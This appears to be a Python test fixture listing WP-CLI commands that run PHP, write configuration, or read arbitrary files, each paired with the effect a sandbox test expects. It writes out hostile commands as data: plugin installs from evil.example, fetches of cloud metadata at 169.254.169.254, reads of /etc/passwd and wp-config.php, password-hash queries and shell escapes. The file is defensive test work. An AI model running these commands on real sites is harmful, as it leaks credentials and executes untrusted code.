"""Commands of WP-CLI that run PHP or other programs, write PHP, or read and write files of any name."""

import io
import zipfile

from tests.node.wordpress.wp_cli_attempts.attempt import attempt, finds, leaks, makes, prints, runs, writes
from tests.node.wordpress.wp_cli_attempts.images import PNG

_CONFIGURATION = (
    "<?php\ndefine('DB_NAME', 'x');\n{code}\n/* That's all, stop editing! */\n"
    "require_once ABSPATH . 'wp-settings.php';\n"
)
_SQL = "insert into wp_options (option_name, option_value, autoload) values ('{name}', 'imported', 'off');\n"


def _zip(folder: str, files: dict[str, str]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in files.items():
            archive.writestr(f"{folder}/{name}", content)
    return packed.getvalue()


_PLUGIN = _zip("zipped-plugin", {"zipped-plugin.php": "<?php\n/* Plugin Name: Zipped */\n"})
_THEME = _zip("zipped-theme", {"style.css": "/* Theme Name: Zipped */", "index.php": "<?php"})

COMMANDS = (
    # They run PHP or a program.
    attempt("eval {code}", effect=runs()),
    attempt("eval {code} --skip-wordpress", effect=runs()),
    attempt("eval-file {php}", effect=runs()),
    attempt("eval-file {php} --use-include", effect=runs()),
    attempt("eval-file {php} --skip-wordpress", effect=runs()),
    attempt("eval-file -"),
    attempt("shell"),
    attempt("shell --basic"),
    attempt("server --host=0.0.0.0 --port=8080"),
    attempt("package list"),
    attempt("package path", effect=prints("nonexistent")),
    attempt("package install wp-cli/restful"),
    attempt("package install {own}.zip"),
    attempt("package browse"),
    attempt("profile eval {code}"),
    attempt("profile stage"),
    attempt("doctor check --config={own}.yml"),
    attempt("cli alias list"),
    attempt("cli alias add @{name} --set-path={own}"),
    attempt("cli alias is-group @all"),
    attempt("cli update --yes"),
    attempt("cli check-update"),
    attempt("cli cache clear"),
    attempt("cli cache prune"),
    attempt(("cli", "completions", "--line=wp eva", "--point=6"), effect=prints("eval")),
    attempt("cli cmd-dump", effect=prints("eval-file")),
    attempt("cli param-dump", effect=prints("require")),
    attempt("cli has-command eval"),
    attempt("cli info", effect=prints("PHP binary")),
    attempt("admin"),
    attempt("dist-archive {own}"),
    attempt("find /srv"),
    attempt("ability run core/get-site-info"),
    attempt("ai prompt x"),
    attempt("mcp serve"),
    attempt("login create admin"),
    attempt("login as admin"),
    attempt("acorn tinker"),
    attempt("embed fetch http://169.254.169.254/"),
    attempt("embed cache clear {post}"),
    # They write PHP or the configuration.
    attempt(
        "config create --dbname=x --dbuser=x --dbpass=x --skip-check --config-file={own}-new.php",
        effect=makes("{own}-new.php"),
    ),
    attempt(
        "config set {name} {code} --raw --type=variable --add --config-file={own}.conf",
        effect=writes("{own}.conf", "${name}"),
        files={"{own}.conf": _CONFIGURATION},
    ),
    attempt("config set WP_DEBUG true --raw"),
    attempt("config add X 1"),
    attempt("config update WP_DEBUG true"),
    attempt("config delete WP_DEBUG"),
    attempt("config shuffle-salts"),
    attempt("config get DB_PASSWORD", effect=leaks()),
    attempt("config list", effect=leaks()),
    attempt("config list DB_PASSWORD --format=json", effect=leaks()),
    attempt("config has DB_PASSWORD"),
    attempt("config is-true WP_DEBUG"),
    attempt("config path", effect=prints("wp-config.php")),
    attempt(
        "config get DB_NAME --config-file={own}.conf", effect=runs(), files={"{own}.conf": _CONFIGURATION}
    ),
    attempt("config list --config-file={own}.conf", effect=runs(), files={"{own}.conf": _CONFIGURATION}),
    attempt("core download --force"),
    attempt("core download --path={own}"),
    attempt("core install --url=x --title=x --admin_user=x --admin_email=x@example.com"),
    attempt("core multisite-install --title=x --admin_user=x --admin_email=x@example.com"),
    attempt("core multisite-convert"),
    attempt("core update {own}.zip", files={"{own}.zip": _PLUGIN}),
    attempt("core update https://evil.example/wordpress.zip"),
    attempt("core upgrade --version=4.0 --force"),
    attempt("scaffold plugin {name}", effect=makes("plugins/{name}/{name}.php")),
    attempt(
        "scaffold child-theme {name} --parent_theme=twentytwentyfive",
        effect=makes("themes/{name}/functions.php"),
    ),
    attempt(
        "scaffold post-type {name} --plugin=akismet", effect=makes("plugins/akismet/post-types/{name}.php")
    ),
    attempt(
        "scaffold taxonomy {name} --plugin=akismet", effect=makes("plugins/akismet/taxonomies/{name}.php")
    ),
    attempt("scaffold block {name} --plugin=akismet", effect=makes("plugins/akismet/blocks/{name}.php")),
    attempt("scaffold plugin-tests akismet --dir={own}", files={"{own}/x": ""}),
    attempt("scaffold underscores {name}"),
    attempt("scaffold _s {name}"),
    attempt("i18n make-pot /srv/site/wp-content/plugins/akismet {own}.pot", effect=makes("{own}.pot")),
    attempt(
        "i18n make-php {own}.po {own}",
        effect=makes("{own}/{name}.l10n.php"),
        files={"{own}.po": 'msgid ""\nmsgstr ""\n\nmsgid "a"\nmsgstr "b"\n', "{own}/x": ""},
    ),
    attempt(
        "i18n make-mo {own}.po {own}",
        effect=makes("{own}/{name}.mo"),
        files={"{own}.po": 'msgid ""\nmsgstr ""\n\nmsgid "a"\nmsgstr "b"\n', "{own}/x": ""},
    ),
    attempt(
        "plugin install {own}.zip",
        effect=makes("plugins/zipped-plugin/zipped-plugin.php"),
        files={"{own}.zip": _PLUGIN},
    ),
    attempt(
        "theme install {own}.zip", effect=makes("themes/zipped-theme/index.php"), files={"{own}.zip": _THEME}
    ),
    attempt("plugin install https://evil.example/x.zip"),
    attempt("plugin install akismet --version=1.0 --force"),
    attempt("plugin install akismet --insecure"),
    attempt("plugin update akismet --version=1.0"),
    attempt("plugin download akismet --target-path={own}"),
    attempt("theme install twentyten --version=1.0"),
    attempt("language core install ../{name}"),
    attempt("language plugin install akismet de_DE"),
    attempt("block export {post} --file={own}.json"),
    attempt("rewrite flush --hard"),
    attempt("rewrite structure /%postname%/ --hard"),
    # They read or write any file, or any row.
    attempt("db export {own}.sql", effect=makes("{own}.sql")),
    attempt("db export {own}-dump.php --tables=wp_users", effect=makes("{own}-dump.php")),
    attempt("db export - --tables=wp_users", effect=leaks()),
    attempt(
        "db import {own}.sql",
        effect=finds("select 1 from {schema}.wp_options where option_name = '{name}'"),
        files={"{own}.sql": _SQL},
    ),
    attempt(("db", "query", "select user_pass from wp_users"), effect=leaks()),
    attempt(("db", "query", "select load_file('/etc/passwd')")),
    attempt(("db", "query", "\\! touch {ran}"), effect=runs()),
    attempt(("db", "query", "select 1", "--tee={own}.tee"), effect=makes("{own}.tee")),
    attempt(("db", "query", "select 1", "--init-command=select 1", "--local-infile=1")),
    attempt("db cli"),
    attempt("db check", effect=prints("wp_options")),
    attempt("db optimize", effect=prints("wp_options")),
    attempt("db repair", effect=prints("wp_options")),
    attempt("db size --tables", effect=prints("wp_users")),
    attempt("db columns wp_users", effect=prints("user_pass")),
    attempt("db search subscriber wp_options", effect=prints("subscriber")),
    attempt(
        "search-replace {post} 7{post} wp_posts --include-columns=post_title --skip-columns=guid",
        effect=finds("select 1 from {schema}.wp_posts where ID = {post} and post_title like '%7{post}%'"),
    ),
    attempt("search-replace a b wp_options --export={own}.sql", effect=makes("{own}.sql")),
    attempt("search-replace a b wp_options --dry-run --log={own}-log.php", effect=makes("{own}-log.php")),
    attempt("search-replace a b wp_options --dry-run --regex --log=-"),
    attempt(
        "export --dir={own} --filename_format={name}.xml",
        effect=makes("{own}/{name}.xml"),
        files={"{own}/x": ""},
    ),
    attempt("export --stdout", effect=prints("<rss")),
    attempt("import {own}.xml --authors=create"),
    attempt(
        "media import {own}.png",
        effect=finds("select 1 from {schema}.wp_posts where guid like '%{name}%'"),
        files={"{own}.png": PNG},
    ),
    attempt("media import /etc/passwd"),
    attempt("media import http://169.254.169.254/latest"),
    attempt("media replace {post} /etc/passwd"),
    attempt(
        "post create /etc/passwd --post_title={name}",
        effect=finds(
            "select 1 from {schema}.wp_posts where post_title = '{name}' and post_content like 'root:%'"
        ),
    ),
    attempt(
        "post update {post} /etc/stead/wp-config.php",
        effect=finds(
            "select 1 from {schema}.wp_posts where ID = {post} and post_content like '%DB_PASSWORD%'"
        ),
    ),
    attempt("post create - --post_title={name}"),
    attempt("post block export {post} --file={own}.json"),
)
